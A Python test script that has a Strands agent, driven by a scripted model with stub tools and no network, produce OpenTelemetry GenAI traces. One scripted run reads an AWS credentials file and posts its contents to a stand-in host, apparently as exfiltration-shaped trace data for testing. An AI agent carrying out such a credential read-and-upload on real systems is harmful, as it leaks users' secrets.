"""Writes REAL OpenTelemetry GenAI traces: a Strands agent run against a scripted model.

Run as ``python -m tests.otel_agent OUT_DIR`` (a separate process: OpenTelemetry's tracer
provider is process-global, and Strands reads ``OTEL_SEMCONV_STABILITY_OPT_IN`` once).
No network: the model is a scripted ``strands.models.Model``. Two agent invocations give
two traces:
1. ``read_file`` of a missing file raises (a failed call), the corrected retry reads a
   credentials file, ``http_post`` sends its content out;
2. one model turn issues two ``read_file`` calls together (one fails), then answers.
Spans are encoded by the OTLP exporter's encoder into an ExportTraceServiceRequest and
written as (a) ``trace.json``: protobuf's JSON mapping of the whole request (base64 ids,
as collectors that use it emit), and (b) ``trace.jsonl``: one request per span per line
with hex ids (the OTLP/JSON encoding the collector's file exporter writes).
"""

from __future__ import annotations

import base64
import json
import os
import sys
from pathlib import Path
from typing import Any

os.environ.setdefault("OTEL_SEMCONV_STABILITY_OPT_IN", "gen_ai_latest_experimental")

from google.protobuf.json_format import MessageToDict  # noqa: E402
from opentelemetry import trace  # noqa: E402
from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans  # noqa: E402
from opentelemetry.sdk.resources import Resource  # noqa: E402
from opentelemetry.sdk.trace import TracerProvider  # noqa: E402
from opentelemetry.sdk.trace.export import SimpleSpanProcessor  # noqa: E402
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter  # noqa: E402

EXPORTER = InMemorySpanExporter()
PROVIDER = TracerProvider(resource=Resource.create({"service.name": "otel-agent-demo"}))
PROVIDER.add_span_processor(SimpleSpanProcessor(EXPORTER))
trace.set_tracer_provider(PROVIDER)

from strands import Agent, tool  # noqa: E402
from tests.scripted_model import Scripted, Turn  # noqa: E402

SECRET = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


@tool
def read_file(path: str) -> str:
    """Read a file.

    Args:
        path: Path of the file.
    """
    if "missing" in path:
        raise FileNotFoundError(f"No such file or directory: {path}")
    return SECRET if "credentials" in path else f"contents of {path}"


@tool
def http_post(url: str, body: str) -> str:
    """Send data to a URL.

    Args:
        url: Destination URL.
        body: Request body.
    """
    return "200 OK"


RETRY: list[Turn] = [
    [("call_1", "read_file", {"path": "/home/dev/missing/credentials"})],
    [("call_2", "read_file", {"path": "/home/dev/.aws/credentials"})],
    [("call_3", "http_post", {"url": "https://collector.example/upload", "body": SECRET})],
    "Uploaded.",
]
PARALLEL: list[Turn] = [
    [("call_4", "read_file", {"path": "notes.txt"}), ("call_5", "read_file", {"path": "missing.txt"})],
    "Read what exists.",
]


def _hex_ids(value: Any) -> Any:
    """protobuf's JSON mapping (base64 bytes) -> OTLP/JSON (hex trace and span ids)."""
    if isinstance(value, dict):
        return {k: (base64.b64decode(v).hex() if k in ("traceId", "spanId", "parentSpanId") and isinstance(v, str)
                    else _hex_ids(v)) for k, v in value.items()}
    if isinstance(value, list):
        return [_hex_ids(v) for v in value]
    return value


def main(out_dir: Path) -> None:
    """Run both agents and write ``trace.json`` and ``trace.jsonl`` under ``out_dir``."""
    for turns, prompt in ((RETRY, "Back up my AWS credentials to the collector"), (PARALLEL, "Read my notes")):
        agent = Agent(model=Scripted(turns), tools=[read_file, http_post], system_prompt="You are a helpful agent.",
                      callback_handler=None)
        agent(prompt)
    PROVIDER.force_flush()
    spans = EXPORTER.get_finished_spans()
    request = MessageToDict(encode_spans(spans))
    out_dir.mkdir(parents=True, exist_ok=True)
    (out_dir / "trace.json").write_text(json.dumps(request), encoding="utf-8")
    lines = [json.dumps(_hex_ids(MessageToDict(encode_spans([span])))) for span in spans]
    (out_dir / "trace.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
